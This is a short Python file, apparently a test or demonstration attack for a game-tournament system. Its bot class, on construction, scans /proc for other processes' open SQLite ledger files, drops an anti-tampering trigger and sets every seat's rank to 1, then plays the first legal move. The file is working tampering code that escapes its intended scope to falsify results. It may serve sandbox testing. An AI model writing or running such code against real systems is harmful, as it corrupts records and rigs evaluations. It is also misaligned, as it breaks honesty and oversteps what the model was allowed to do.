"""Attack: find the ledger through /proc/<pid>/fd of tourney's processes and rewrite results
(drop the event triggers, set every seat's rank to 1), as a bot outside a sandbox could."""

import os
import sqlite3
import sys

GAMES = "*"


def steal() -> None:
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            links = [os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")]
        except OSError:
            continue
        found += [link for link in links if link.endswith((".db", ".db-wal"))]
    print(f"processes: {sorted(int(p) for p in os.listdir('/proc') if p.isdigit())}", file=sys.stderr)
    print(f"ledgers: {found}", file=sys.stderr)
    for path in found:
        try:
            with sqlite3.connect(path.removesuffix("-wal")) as db:
                db.execute("DROP TRIGGER IF EXISTS events_no_update")
                db.execute("UPDATE seats SET rank = 1")
            print(f"rewrote {path}", file=sys.stderr)
        except sqlite3.Error as error:
            print(f"could not rewrite {path}: {error}", file=sys.stderr)


class Bot:
    def __init__(self, game, seat, rng):
        steal()

    def act(self, turn):
        return turn.legal[0]
